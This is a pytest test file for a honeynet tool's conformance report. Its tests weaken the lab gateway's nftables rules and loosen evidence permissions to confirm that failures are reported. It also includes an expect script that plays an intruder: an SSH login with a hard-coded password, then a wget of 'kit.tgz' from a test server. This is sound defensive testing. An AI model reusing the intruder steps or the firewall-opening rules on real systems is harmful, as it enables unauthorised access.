# SPDX-License-Identifier: GPL-2.0-or-later
"""The standard's requirements on the running honeynet, and that what is broken is seen."""
import contextlib
import os
import re
import shutil
import signal
import subprocess

import pytest

from conftest import ROOT, ROXEN, Skep, conformance, honeynet_file, wait_for

PASSES = {"DC-1", "DC-2", "DC-3", "DC-4", "DC-5", "DC-6", "CA-1", "CA-8", "CA-9", "AN-3"}

NOBODY = "203.0.113.254"        # is kept out for a moment
SERVER = "203.0.113.80"

# Logs in with a terminal, types, and fetches something that the NIDS knows.
TYPED = """
set timeout 60
spawn ssh -tt -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \\
    -o PreferredAuthentications=password webadmin@[lindex $argv 0]
expect "assword:"
send "meridian1\\r"
expect "$ "
send "wget -q -T 5 -t 1 http://[lindex $argv 1]/kit.tgz\\r"
expect "$ "
send "exit\\r"
expect eof
"""


def failed(rows):
    fails = {k: v["evidence"] for k, v in rows.items() if v["result"] == "fail"}
    print(fails)     # pytest shows it if the test fails
    return set(fails)


def test_every_requirement_has_a_line_and_its_evidence(skep):
    rows = conformance(skep)
    with open(os.path.join(ROOT, "src", "report", "conformance.h")) as f:
        assert list(rows) == re.findall(r'X\(\w+, "(\S+)",', f.read())
    assert len(rows) == 25 and all(v["evidence"] for v in rows.values())
    assert not failed(rows), rows
    assert {k for k, v in rows.items() if v["result"] == "pass"} >= PASSES, rows
    text = skep.run("conformance").stdout.splitlines()
    assert re.fullmatch(r"\d+ PASS, 0 FAIL, \d+ NOT YET", text[-1])


def test_its_own_connections_are_no_intruders(skep):
    before = len(skep.json("sessions", "--all"))
    rows = conformance(skep)
    assert "administrator's" in rows["CA-2"]["evidence"]
    said = [(e["admin"]["args"][:2], e["admin"]["action"]) for e in skep.events("--kind", "admin", "-n", "3")]
    assert said == [(["skep", "conformance"], "allowed"), (["block", NOBODY], "done"), (["unblock", NOBODY], "done")]
    assert len(skep.json("sessions", "--all")) == before


@contextlib.contextmanager
def kept(skep, there, deed):
    """A deed that is done again whenever skep has mended it; afterwards all is well by itself."""
    script = f"while :; do nft -a list chain inet skep {there} || nft {deed}; done >/dev/null 2>&1"
    again = skep.start("lab", "exec", "--gateway", "--", "sh", "-c", script)
    try:
        yield
    finally:
        again.kill()
        again.wait()
    wait_for(lambda: not failed(conformance(skep)), 30)


def fails(skep, *requirements):
    """Its rows, once these have failed: right after skep has mended something all is well for a moment."""
    def rows():
        found = conformance(skep)
        return found if failed(found) >= set(requirements) else None
    return wait_for(rows, 60)


def test_a_way_past_the_locks_fails(skep):
    with kept(skep, "forward | grep -q 192.0.2.255", "insert rule inet skep forward ip daddr 192.0.2.255 accept"):
        rows = fails(skep, "DC-2", "DC-3")
        assert "does not begin with both locks" in rows["DC-3"]["evidence"]


def test_a_policy_that_accepts_fails(skep):
    with kept(skep, "forward | grep -q 'policy accept'",
              "'add chain inet skep forward { type filter hook forward priority 0; policy accept; }'"):
        fails(skep, "DC-3", "DC-4", "DC-5")


def test_a_port_of_the_gateway_that_answers_fails(skep):
    """A rule that lets one in where nothing listens: the gateway says so instead of being silent."""
    with kept(skep, "input | grep -q 'dport 9 '", "insert rule inet skep input tcp dport 9 accept"):
        rows = fails(skep, "DC-5")
        assert "answered" in rows["DC-5"]["evidence"]


def test_without_its_keeper_the_second_layer_does_not_hold(skep):
    def seen():
        """a conformance that was asked before somebody else had taken his place"""
        os.kill(skep.pid("brake"), signal.SIGSTOP)
        wait_for(lambda: not skep.status()["brake"]["holds"], 10)
        row = conformance(skep)["DC-2"]
        return row["result"] == "fail" and "the second layer" in row["evidence"]
    wait_for(seen, 60)
    wait_for(lambda: not failed(conformance(skep)), 30)


@pytest.mark.parametrize("what, mode", [("evidence", 0o755), ("evidence/journal", 0o770), ("evidence/samples", 0o777),
                                        ("evidence/pcap", 0o755)])
def test_loose_evidence_fails(skep, what, mode):
    path = os.path.join(skep.state, what)
    before = os.stat(path).st_mode & 0o7777
    os.chmod(path, mode)
    try:
        rows = conformance(skep)
        assert failed(rows) == {"CA-9"} and f"{what}: " in rows["CA-9"]["evidence"]
    finally:
        os.chmod(path, before)
    assert not failed(conformance(skep))


def test_without_the_rule_a_block_keeps_nobody_out(skep):
    with kept(skep, f"forward | grep -q 'saddr {NOBODY} drop'", f"insert rule inet skep forward ip saddr {NOBODY} drop"):
        rows = fails(skep, "DC-1")      # dropped, but by another rule that records nothing
        assert "no verdict" in rows["DC-1"]["evidence"]


def test_an_alert_leads_to_the_keys(skep, tmp_path):
    """One short visit: it is then told by one interface, from the alert to what was typed."""
    (tmp_path / "kit.tgz").write_bytes(b"\x1f\x8b" + bytes(100))
    (tmp_path / "typed").write_text(TYPED)
    server = skep.start("lab", "exec", "--", "/usr/bin/python3", "-m", "http.server", "--bind", SERVER, "--directory",
                        str(tmp_path), "80", stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    try:
        wait_for(lambda: skep.lab("nc", "-z", SERVER, "80", check=False).returncode == 0, 20)
        skep.lab("expect", str(tmp_path / "typed"), ROXEN, SERVER)
    finally:
        server.terminate()
        server.wait(timeout=20)

    def told():
        rows = conformance(skep)
        return rows if {rows[r]["result"] for r in ("AN-1", "AN-2", "CA-3")} == {"pass"} else None
    rows = wait_for(told, 40, 1)
    assert "download" in rows["AN-2"]["evidence"] or "alert" in rows["AN-2"]["evidence"]
    session = re.search(r"session (\d+)", rows["AN-2"]["evidence"]).group(1)
    kinds = {e["event_type"] for e in skep.json("session", session)}
    assert {"alert", "flow", "exec", "tty_in"} <= kinds


def test_remote_administration_is_seen(skep):
    folder = os.path.join(skep.state, "people")
    os.makedirs(folder)
    path = os.path.join(folder, "honeynet.yaml")
    subprocess.run(["ssh-keygen", "-q", "-N", "", "-t", "ed25519", "-f", os.path.join(folder, "carol")], check=True)
    honeynet_file(path, f"  port: 22023\n  users:\n    - {{ name: carol, keys: {folder}/carol.pub }}\n")
    assert conformance(skep)["DC-9"]["result"] == "not yet"

    def ssh(*command):
        return subprocess.run(["ssh", "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "IdentitiesOnly=yes", "-p", "22023",
                               "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-i",
                               os.path.join(folder, "carol"), "root@127.0.0.1", *command], stdin=subprocess.DEVNULL,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=60)
    try:
        skep.run("access", "setup", path)
        rows = conformance(skep)
        assert rows["DC-9"]["result"] == "pass" and rows["CA-4"]["result"] == "pass", rows
        r = ssh("skep status")
        assert r.returncode == 0 and "Apache" in r.stdout
        assert ssh("skep down").returncode == 2
        assert "DC-9  PASS" in ssh("skep conformance").stdout

        def recorded():
            mine = [e for e in skep.events("--kind", "admin") if e["admin"]["user"] == "carol"]
            return mine if len(mine) == 9 else None
        said = wait_for(recorded, 5)
        assert [e["admin"]["action"] for e in said[0::3] + said[2::3]] == 3 * ["began"] + 3 * ["ended"]
        assert len({e["src_port"] for e in said[0:3]}) == 1 and not said[0]["admin"].get("args")
        said = said[1::3]
        assert [e["admin"]["action"] for e in said] == ["allowed", "refused", "allowed"]
        assert said[1]["admin"]["args"] == ["skep", "down"] and "administrators" in said[1]["admin"]["reason"]
        assert all(e["src_ip"] == "127.0.0.1" and e["src_port"] and not e.get("session") for e in said)
        assert not os.path.exists(os.path.join(skep.state, "access", "admin.log"))
    finally:
        skep.run("access", "stop", "--sessions", check=False)
        shutil.rmtree(folder)
    assert conformance(skep)["DC-9"]["result"] == "not yet"


def test_without_a_honeynet_nothing_is_said(tmp_path):
    r = Skep(str(tmp_path)).run("conformance", check=False)
    assert r.returncode == 1 and "skep up" in r.stderr and not r.stdout
